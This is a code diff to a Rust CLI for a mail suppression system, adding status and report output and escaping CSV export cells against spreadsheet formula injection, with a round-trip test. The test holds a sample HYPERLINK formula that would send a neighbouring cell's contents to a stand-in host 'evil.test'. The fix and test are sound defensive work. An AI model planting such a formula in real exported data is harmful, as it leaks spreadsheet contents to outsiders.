@@ -296,6 +296,16 @@ pub fn print_status(v: &Value, json: bool) {
                 counts.join(", ")
             }
         );
+        if let (Some(now), Some(max)) = (
+            v["reports"]["stored_bytes"].as_u64(),
+            v["reports"]["max_stored"].as_u64(),
+        ) {
+            println!(
+                "reports stored: {:.1} of {:.1} MiB (bounces.max_stored)",
+                now as f64 / 1048576.0,
+                max as f64 / 1048576.0
+            );
+        }
     }
 }
 
@@ -506,6 +516,13 @@ pub fn print_show(v: &Value, json: bool) {
         println!("\nhistory:");
         print!("{}", table(&EVENT_HEADERS, &event_rows(&events)));
     }
+    let reports = arr(v, "reports");
+    if !reports.is_empty() {
+        println!("\nreports about this message:");
+        for r in reports {
+            println!("  {} {}: {}", s(&r["id"]), s(&r["kind"]), s(&r["summary"]));
+        }
+    }
 }
 
 pub fn print_trace(v: &Value, json: bool) {
@@ -649,21 +666,46 @@ pub fn suppressions_csv(v: &Value) -> Result<String, CliError> {
     let fail = |e: csv::Error| CliError::Failed(e.to_string());
     w.write_record(CSV_HEADER).map_err(fail)?;
     for e in entries {
-        w.write_record([
-            e.addr,
-            e.reason,
-            e.reply.unwrap_or_default(),
-            e.source_id.unwrap_or_default(),
-            ms_to_rfc3339(Some(e.added_ms)),
-            ms_to_rfc3339(e.expires_ms),
-            e.automatic.to_string(),
-        ])
+        w.write_record(
+            [
+                e.addr,
+                e.reason,
+                e.reply.unwrap_or_default(),
+                e.source_id.unwrap_or_default(),
+                ms_to_rfc3339(Some(e.added_ms)),
+                ms_to_rfc3339(e.expires_ms),
+                e.automatic.to_string(),
+            ]
+            .map(|c| csv_cell(&c)),
+        )
         .map_err(fail)?;
     }
     let bytes = w
         .into_inner()
         .map_err(|e| CliError::Failed(e.to_string()))?;
     Ok(String::from_utf8_lossy(&bytes).into_owned())
+}
+
+/// Characters that make a spreadsheet read a cell as a formula (OWASP's
+/// list): a remote server's reply such as `=HYPERLINK(...)` must stay text.
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A cell that a spreadsheet shows as text: one that would start a formula
+/// gets a leading `'` (which [`parse_suppressions_csv`] takes off again).
+fn csv_cell(text: &str) -> String {
+    if text.starts_with(FORMULA_START) {
+        format!("'{text}")
+    } else {
+        text.to_string()
+    }
+}
+
+/// The text of a cell written by [`csv_cell`].
+fn csv_uncell(text: &str) -> &str {
+    match text.strip_prefix('\'') {
+        Some(rest) if rest.starts_with(FORMULA_START) => rest,
+        _ => text,
+    }
 }
 
 /// Reads CSV written by `suppression export` (or by hand: only `address`
@@ -680,7 +722,7 @@ pub fn parse_suppressions_csv(text: &str) -> Result<Vec<Entry>, String> {
     let mut out = Vec::new();
     for (i, rec) in rd.records().enumerate() {
         let rec = rec.map_err(|e| format!("line {}: {e}", i + 1))?;
-        let get = |n: usize| rec.get(n).unwrap_or("").trim().to_string();
+        let get = |n: usize| csv_uncell(rec.get(n).unwrap_or("").trim()).to_string();
         let addr = get(0).to_lowercase();
         if addr.is_empty() {
             continue;
@@ -727,6 +769,42 @@ mod tests {
         let plain = parse_suppressions_csv("x@y.test\nz@y.test\n").unwrap();
         assert_eq!(plain.len(), 2);
         assert!(parse_suppressions_csv("address\nnot-an-address\n").is_err());
+    }
+
+    #[test]
+    fn csv_cells_never_start_a_formula() {
+        let reply = "smtp; =HYPERLINK(\"http://evil.test/x?\"&A2,\"click\")";
+        let v = serde_json::json!({"entries": [{
+            "addr": "-dash@b.test", "reason": "+1", "reply": reply,
+            "source_id": "@SUM(A1)", "added_ms": 1_700_000_000_000u64, "expires_ms": null, "automatic": false
+        }, {
+            "addr": "tab@b.test", "reason": "\tx", "reply": "\rcr", "source_id": "=1+2",
+            "added_ms": 1_700_000_000_000u64, "expires_ms": null, "automatic": false
+        }]});
+        let text = match suppressions_csv(&v) {
+            Ok(t) => t,
+            Err(e) => panic!("{}", e.message()),
+        };
+        let mut rd = csv::ReaderBuilder::new()
+            .has_headers(true)
+            .from_reader(text.as_bytes());
+        let mut cells = 0;
+        for rec in rd.records() {
+            for cell in rec.unwrap().iter() {
+                cells += 1;
+                assert!(!cell.starts_with(FORMULA_START), "{cell:?} in {text}");
+            }
+        }
+        assert_eq!(cells, 14);
+        // What was exported imports as it was.
+        let back = parse_suppressions_csv(&text).unwrap();
+        assert_eq!(back[0].addr, "-dash@b.test");
+        assert_eq!(back[0].reason, "+1");
+        assert_eq!(back[0].reply.as_deref(), Some(reply));
+        assert_eq!(back[0].source_id.as_deref(), Some("@SUM(A1)"));
+        assert_eq!(back[1].source_id.as_deref(), Some("=1+2"));
+        // A value that merely starts with a quote stays as it was.
+        assert_eq!(csv_uncell("'quoted"), "'quoted");
     }
 
     #[test]
